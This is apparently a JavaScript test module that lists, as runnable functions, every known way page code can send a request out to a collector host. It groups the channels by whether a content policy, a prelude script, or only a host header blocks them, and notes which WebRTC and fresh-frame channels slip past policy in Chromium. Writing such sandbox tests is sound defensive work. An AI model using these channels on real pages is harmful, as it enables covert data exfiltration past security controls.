// Every way out of a page that we know of, as functions that run inside it. Each tries to bring `/<name>` to the
// collector at `to.address` (WebRTC: a datagram to `to.stun`) and resolves when it has done all it can.
//
// They use the browser's own functions, kept in `originals` before the page ran, so that each lock is judged alone.

/** Runs in the page before anything else. */
export function keepOriginals() {
  const { XMLHttpRequest, WebSocket, EventSource, RTCPeerConnection } = globalThis;
  const fetch = globalThis.fetch.bind(globalThis);
  const sendBeacon = navigator.sendBeacon?.bind(navigator);
  const open = globalThis.open.bind(globalThis);
  // Settles on the first of these events, or on the refusal of the policy, which not every channel reports itself.
  const settledBy = (target, ...events) =>
    new Promise((settled) => {
      for (const event of events) target.addEventListener(event, settled, { once: true });
      document.addEventListener('securitypolicyviolation', settled, { once: true });
    });
  const insert = (tag, properties) => {
    const made = Object.assign(document.createElement(tag), properties);
    const settled = settledBy(made, 'load', 'error', 'loadedmetadata');
    document.body.append(made);
    return settled;
  };
  const inWorker = (code) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`(async () => { try { ${code} } catch {} postMessage(0) })()`])));
    return settledBy(worker, 'message', 'error');
  };
  const askStun = async (Connection, stun) => {
    const peer = new Connection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('data');
    await peer.setLocalDescription(await peer.createOffer());
  };
  const freshWindow = () => document.body.appendChild(document.createElement('iframe')).contentWindow;
  globalThis.originals = {
    fetch, XMLHttpRequest, WebSocket, EventSource, RTCPeerConnection, sendBeacon, open,
    settledBy, insert, inWorker, askStun, freshWindow,
  };
}

/** The policy alone closes these, in every setting. */
export const CLOSED_BY_POLICY = {
  fetch: (to) => originals.fetch(`${to.address}/fetch`, { mode: 'no-cors' }).catch(() => {}),
  xhr: (to) => {
    const request = new originals.XMLHttpRequest();
    request.open('POST', `${to.address}/xhr`);
    request.send('data');
    return originals.settledBy(request, 'loadend');
  },
  websocket: (to) =>
    originals.settledBy(new originals.WebSocket(`${to.address.replace('http', 'ws')}/websocket`), 'close', 'error'),
  eventsource: (to) => originals.settledBy(new originals.EventSource(`${to.address}/eventsource`), 'open', 'error'),
  beacon: (to) => void originals.sendBeacon(`${to.address}/beacon`, 'data'),
  image: (to) => originals.insert('img', { src: `${to.address}/image` }),
  script: (to) => originals.insert('script', { src: `${to.address}/script` }),
  import: (to) => import(`${to.address}/import`).catch(() => {}),
  stylesheet: (to) => originals.insert('link', { rel: 'stylesheet', href: `${to.address}/stylesheet` }),
  prefetch: (to) => originals.insert('link', { rel: 'prefetch', href: `${to.address}/prefetch` }),
  preload: (to) => originals.insert('link', { rel: 'preload', as: 'image', href: `${to.address}/preload` }),
  'style-url': (to) => {
    document.body.style.backgroundImage = `url(${to.address}/style-url)`;
    return new Promise(requestAnimationFrame);
  },
  font: (to) => new FontFace('sent', `url(${to.address}/font)`).load().catch(() => {}),
  frame: (to) => originals.insert('iframe', { src: `${to.address}/frame` }),
  object: (to) => originals.insert('object', { data: `${to.address}/object` }),
  video: (to) => originals.insert('video', { src: `${to.address}/video` }),
  ping: (to) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `${to.address}/ping` });
    document.body.append(link);
    link.click();
  },
  'worker-fetch': (to) => originals.inWorker(`await fetch('${to.address}/worker-fetch', { mode: 'no-cors' })`),
  'worker-script': (to) => originals.inWorker(`importScripts('${to.address}/worker-script')`),
  'frame-fetch': (to) =>
    originals.freshWindow().fetch(`${to.address}/frame-fetch`, { mode: 'no-cors' }).catch(() => {}),
};

/** Ways to leave the page. A policy closes only the forms; the prelude cancels the rest. */
export const CLOSED_BY_PRELUDE = {
  form: (to) => {
    const form = Object.assign(document.createElement('form'), { action: `${to.address}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  link: (to) => {
    const link = Object.assign(document.createElement('a'), { href: `${to.address}/link` });
    document.body.append(link);
    link.click();
  },
  'link-to-new-window': (to) => {
    const link = Object.assign(document.createElement('a'), { href: `${to.address}/link-to-new-window`, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  location: (to) => void (location.href = `${to.address}/location`),
  assign: (to) => location.assign(`${to.address}/assign`),
  refresh: (to) => {
    const content = `0;url=${to.address}/refresh`;
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content }));
  },
};

/**
 * No policy closes these in Chromium, and the prelude only where code goes through the page's own window: code that
 * kept an original, or takes one from a fresh frame, gets out. Hosts that send Connection-Allowlist close them.
 */
export const CLOSED_BY_HOST_ONLY = {
  datagram: (to) => originals.askStun(originals.RTCPeerConnection, to.stun),
  'frame-open': (to) => void originals.freshWindow().open(`${to.address}/frame-open`),
};
